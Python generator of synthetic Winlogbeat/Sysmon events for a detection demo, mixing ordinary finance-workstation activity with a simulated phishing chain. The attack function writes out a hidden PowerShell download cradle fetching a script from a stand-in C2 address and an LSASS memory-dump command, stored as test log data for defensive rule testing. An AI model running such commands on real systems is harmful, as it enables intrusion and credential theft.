"""Windows endpoint events for the demo's Bộ Tài chính story, as Winlogbeat JSON lines.

DEMO.md step 2: on an accounting workstation a phishing attachment (a macro document opened from
Outlook) starts a PowerShell download cradle, which fetches tooling that dumps LSASS memory.
Around it, a day of ordinary Sysmon process creations and Security logons on several hosts.

Records follow Winlogbeat's shape (`winlog.channel`, `winlog.event_id`, `winlog.event_data` with
Sysmon's own field names), so the sensor's `windows_json` parser reads them and Sigma rules written
against Sysmon field names (Image, ParentImage, CommandLine) match them. Addresses and names come
from documentation ranges and `.example`. Deterministic: the same spec yields the same lines.
"""

from __future__ import annotations

import json
import random
import uuid
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta

SYSMON = "Microsoft-Windows-Sysmon/Operational"
SECURITY = "Security"
C2 = "203.0.113.99"

# (parent image, image, command line) of a working day on a finance workstation
ORDINARY = (
    (r"C:\Windows\explorer.exe", r"C:\Program Files\Google\Chrome\Application\chrome.exe",
     r'"C:\Program Files\Google\Chrome\Application\chrome.exe" https://portal.mof.example/'),
    (r"C:\Windows\explorer.exe", r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE",
     r'"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE"'),
    (r"C:\Windows\explorer.exe", r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE",
     r'"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE" "D:\KeToan\BaoCao_Quy4.xlsx"'),
    (r"C:\Windows\System32\services.exe", r"C:\Windows\System32\svchost.exe",
     r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule"),
    (r"C:\Windows\System32\svchost.exe", r"C:\Windows\System32\taskhostw.exe", "taskhostw.exe"),
    (r"C:\Windows\explorer.exe", r"C:\Windows\System32\notepad.exe",
     r'"C:\Windows\system32\notepad.exe" D:\KeToan\ghichu.txt'),
)


@dataclass(frozen=True, slots=True)
class WindowsSpec:
    start: datetime
    records: int = 600
    seed: int = 31
    hosts: tuple[str, ...] = ("ws-ketoan-01.mof.example", "ws-ketoan-02.mof.example", "ws-vanthu-01.mof.example")
    domain: str = "MOF"
    victim_host: str = "ws-ketoan-01.mof.example"
    victim_user: str = "nguyenthilan"
    attack_at_hours: float = 9.5


class _Writer:
    def __init__(self, spec: WindowsSpec) -> None:
        self.spec = spec
        self.rng = random.Random(spec.seed)
        self.out: list[tuple[datetime, int, str]] = []
        self.record_id = 1000

    def guid(self) -> str:
        return "{" + str(uuid.UUID(int=self.rng.getrandbits(128))) + "}"

    def emit(self, ts: datetime, host: str, channel: str, event_id: int, data: dict[str, str]) -> None:
        self.record_id += 1
        provider = "Microsoft-Windows-Sysmon" if channel == SYSMON else "Microsoft-Windows-Security-Auditing"
        doc = {
            "@timestamp": ts.astimezone(UTC).isoformat(timespec="milliseconds").replace("+00:00", "Z"),
            "winlog": {"channel": channel, "event_id": event_id, "provider_name": provider,
                       "computer_name": host, "record_id": self.record_id, "event_data": data},
        }
        self.out.append((ts, len(self.out), json.dumps(doc, ensure_ascii=False, sort_keys=True)))

    def process(self, ts: datetime, host: str, user: str, parent: str, image: str, command: str,
                parent_command: str = "") -> None:
        utc = ts.astimezone(UTC).strftime("%Y-%m-%d %H:%M:%S.%f")[:-3]
        self.emit(ts, host, SYSMON, 1, {
            "RuleName": "-", "UtcTime": utc, "ProcessGuid": self.guid(),
            "ProcessId": str(self.rng.randrange(1000, 9000)),
            "Image": image, "FileVersion": "-", "Description": "-", "Product": "-", "Company": "-",
            "OriginalFileName": image.rsplit("\\", 1)[-1], "CommandLine": command,
            "CurrentDirectory": "C:\\Users\\" + user + "\\", "User": f"{self.spec.domain}\\{user}",
            "LogonGuid": self.guid(), "LogonId": hex(self.rng.getrandbits(24)), "TerminalSessionId": "1",
            "IntegrityLevel": "Medium", "Hashes": f"SHA256={self.rng.getrandbits(256):064X}",
            "ParentProcessGuid": self.guid(), "ParentProcessId": str(self.rng.randrange(1000, 9000)),
            "ParentImage": parent, "ParentCommandLine": parent_command or parent,
            "ParentUser": f"{self.spec.domain}\\{user}",
        })


def _background(w: _Writer) -> None:
    users = ("nguyenthilan", "tranvanminh", "lethithu", "phamquanghuy")
    while len(w.out) < w.spec.records:
        ts = w.spec.start + timedelta(hours=8 + 9 * w.rng.random())
        host, user = w.rng.choice(w.spec.hosts), w.rng.choice(users)
        if w.rng.random() < 0.2:
            w.emit(ts, host, SECURITY, 4624, {
                "TargetUserName": user, "TargetDomainName": w.spec.domain, "LogonType": "2",
                "IpAddress": "-", "WorkstationName": host.split(".")[0].upper(),
                "LogonProcessName": "User32", "AuthenticationPackageName": "Negotiate"})
            continue
        parent, image, command = w.rng.choice(ORDINARY)
        w.process(ts, host, user, parent, image, command)


def _attack(w: _Writer) -> None:
    s = w.spec
    ts = s.start + timedelta(hours=s.attack_at_hours)
    outlook = r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE"
    word = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"
    attachment = (rf"C:\Users\{s.victim_user}\AppData\Local\Microsoft\Windows\INetCache"
                  r"\Content.Outlook\Q3LZ7K2B\HoaDon_Thang11.docm")
    word_command = f'"{word}" /n "{attachment}" /o ""'
    w.process(ts, s.victim_host, s.victim_user, outlook, word, word_command, f'"{outlook}"')
    powershell = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
    cradle = (f"{powershell} -nop -w hidden -c \"IEX (New-Object Net.WebClient)"
              f".DownloadString('http://{C2}/cap-nhat.ps1')\"")
    w.process(ts + timedelta(seconds=4), s.victim_host, s.victim_user, word, powershell, cradle, word_command)
    w.emit(ts + timedelta(seconds=5), s.victim_host, SYSMON, 3, {
        "Image": powershell, "User": f"{s.domain}\\{s.victim_user}", "Protocol": "tcp", "Initiated": "true",
        "SourceIp": "10.10.20.31", "SourcePort": "52114", "DestinationIp": C2, "DestinationPort": "80",
        "DestinationHostname": "-"})
    tool = rf"C:\Users\{s.victim_user}\AppData\Local\Temp\pd64.exe"
    w.emit(ts + timedelta(seconds=9), s.victim_host, SYSMON, 11, {
        "Image": powershell, "TargetFilename": tool, "User": f"{s.domain}\\{s.victim_user}"})
    dump = f"{tool} -accepteula -ma lsass.exe C:\\Windows\\Temp\\ls.dmp"
    w.process(ts + timedelta(seconds=15), s.victim_host, s.victim_user, powershell, tool, dump, cradle)


def generate_windows_events(spec: WindowsSpec) -> list[str]:
    """About `spec.records` Winlogbeat JSON lines, sorted by time, the attack among them."""
    w = _Writer(spec)
    _attack(w)
    _background(w)
    w.out.sort()
    return [line for _, _, line in w.out]
